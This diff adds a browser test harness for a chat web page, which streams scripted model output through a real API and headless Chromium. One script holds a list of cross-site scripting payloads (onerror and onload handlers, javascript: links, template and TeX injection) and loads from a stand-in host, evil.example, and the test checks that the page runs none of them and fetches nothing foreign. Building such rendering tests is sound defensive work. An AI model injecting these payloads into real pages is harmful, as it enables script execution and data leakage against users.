@@ -1,0 +1,153 @@
+"""The page on the real API and engine process, in front of a scripted runner, seen through a real browser."""
+
+from __future__ import annotations
+
+import asyncio
+import shutil
+import socket
+import threading
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+import uvicorn
+from playwright.sync_api import Browser, Page, sync_playwright
+
+from r1chat.app.ui.page import build_page, mount_page
+from r1chat.serve.api.server import ServerConfig, create_app
+from r1chat.serve.engine.process import EngineConfig, EngineProcess
+
+FLAGS = (
+    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run"
+    " --disable-background-networking --disable-component-update --disable-sync"
+).split()
+LONG_WORDS = 600
+# Each tries to run `window.pwned = ...` or to reach evil.example.
+HOSTILE = r"""
+<img src=x onerror=window.pwned='img'> <script>window.pwned='script'</script>
+<svg onload=window.pwned='svg'></svg> <iframe srcdoc="<script>parent.pwned='frame'</script>"></iframe>
+${window.pwned='template'} {{constructor.constructor('window.pwned=1')()}} `${window.pwned=2}`
+![picture](http://evil.example/pixel.png?secret) ![late][late] [click](javascript:window.pwned='link')
+[click](JaVaScRiPt:window.pwned='case') [data](data:text/html;base64,PHNjcmlwdD4=) <http://evil.example/auto>
+<link rel=stylesheet href=//evil.example/a.css> <style>body{background:url(//evil.example/b.png)}</style>
+<form action=//evil.example><input name=q></form> <video src=//evil.example/v.mp4 autoplay></video>
+\( \text{<img src=x onerror=window.pwned='tex'>} \href{javascript:window.pwned='href'}{x} \)
+\( \style{background:url(http://evil.example/c.png)}{y} \class{turn}{z} \)
+```html
+</code></pre><img src=x onerror=window.pwned='fence'>
+```
+<details open ontoggle=window.pwned='toggle'> <math><mtext><img src=x onerror=window.pwned='math'></mtext></math>
+
+[late]: http://evil.example/late.png
+"""
+SCRIPTS = {
+    "LONG": "".join(f"step {n} goes on\n" if n % 5 == 0 else f"word{n} " for n in range(LONG_WORDS))
+    + "</think>\n\ndone",
+    "MARKUP": "Let me write it down.\n</think>\n\nSo \\( \\frac{36}{240} < 1 \\) and **36** it is:\n\n"
+    "```python\nif x < 2:\n\tprint(36)\n```\n\n\\[ \\boxed{36} \\]",
+    "CUT": "I begin to think, and then CRASH never comes",
+    "HOSTILE": f"{HOSTILE}\n</think>\n\n{HOSTILE}",
+    "WIDE": f"{'w' * 300}\n</think>\n\n{'x' * 300}\n\n\\[ {'+ y ' * 60} \\]\n\n```\n{'z' * 300}\n```\n\n"
+    f"| a | b |\n|---|---|\n| {'column ' * 40} | {'v' * 200} |",
+}
+
+
+class PageServer:
+    """API, engine and page on a loopback port, on a thread and event loop of their own."""
+
+    def __init__(self, engine_config: EngineConfig, label: str) -> None:
+        self._engine_config = engine_config
+        self._label = label
+        self._sock = socket.create_server(("127.0.0.1", 0))
+        self.url = f"http://127.0.0.1:{self._sock.getsockname()[1]}"
+        self._ready = threading.Event()
+        self._thread = threading.Thread(target=lambda: asyncio.run(self._serve()))
+
+    def __enter__(self) -> PageServer:
+        self._thread.start()
+        assert self._ready.wait(timeout=120), "the server does not start"
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._server.should_exit = True
+        self._thread.join(timeout=30)
+        assert not self._thread.is_alive(), "the server does not stop"
+
+    def stats(self) -> dict[str, Any]:
+        """What the engine is busy with."""
+        return self._engine.stats()
+
+    async def _serve(self) -> None:
+        self._engine = EngineProcess(self._engine_config)
+        await self._engine.start()
+        app = create_app(ServerConfig(), self._engine)
+        mount_page(app, build_page(self.url, self._label))
+        config = uvicorn.Config(app, log_config=None, access_log=False, timeout_graceful_shutdown=1)
+        self._server = uvicorn.Server(config)
+        serving = asyncio.create_task(self._server.serve(sockets=[self._sock]))
+        while not self._server.started:
+            await asyncio.sleep(0.01)
+        self._ready.set()
+        await serving
+        await self._engine.stop()
+
+
+@pytest.fixture(scope="package")
+def server() -> Iterator[PageServer]:
+    """About 150 tokens/s; the word in capitals in a question chooses the script."""
+    runner_args = {"tokens_per_s": 150, "scripts": SCRIPTS, "n_ctx": 4096}
+    config = EngineConfig(runner="scripted_runner:ScriptedRunner", runner_args=runner_args)
+    with PageServer(config, "scripted model · no parameters") as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    """One per module: while it is open, no other test can run an event loop on this thread."""
+    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    if path is None:
+        pytest.skip("no browser here: install the Debian package `chromium`")
+    with sync_playwright() as playwright:
+        yield playwright.chromium.launch(executable_path=path, args=FLAGS)
+
+
+class Visit:
+    """One tab on the page, with what it fetched and complained about."""
+
+    def __init__(self, tab: Page, url: str) -> None:
+        self.tab = tab
+        self.url = url
+        self.foreign: list[str] = []
+        self.complaints: list[str] = []
+        tab.on("request", self._on_request)
+        tab.on("pageerror", lambda error: self.complaints.append(str(error)))
+        tab.on("console", lambda line: self.complaints.append(line.text) if line.type == "error" else None)
+        tab.goto(url)
+        tab.wait_for_selector("#question textarea")
+
+    def ask(self, question: str) -> None:
+        """Types the question and sends it with Enter."""
+        self.tab.fill("#question textarea", question)
+        self.tab.press("#question textarea", "Enter")
+
+    def wait(self, state: str, timeout_s: float = 30) -> None:
+        """Waits until the newest turn is in `state`."""
+        self.tab.wait_for_selector(f".turn:last-child[data-state={state}]", timeout=timeout_s * 1000)
+
+    def text(self, selector: str) -> str:
+        """What the newest turn shows there."""
+        return self.tab.inner_text(f".turn:last-child {selector}")
+
+    def _on_request(self, request: Any) -> None:
+        if not request.url.startswith((self.url, "data:", "blob:")):
+            self.foreign.append(request.url)
+
+
+@pytest.fixture
+def visit(browser: Browser, server: PageServer) -> Iterator[Visit]:
+    """A fresh tab on the page. It must never complain, and never fetch anything from elsewhere."""
+    with browser.new_context(viewport={"width": 1280, "height": 860}) as context:
+        visit = Visit(context.new_page(), server.url)
+        yield visit
+    assert visit.complaints == []
+    assert visit.foreign == []
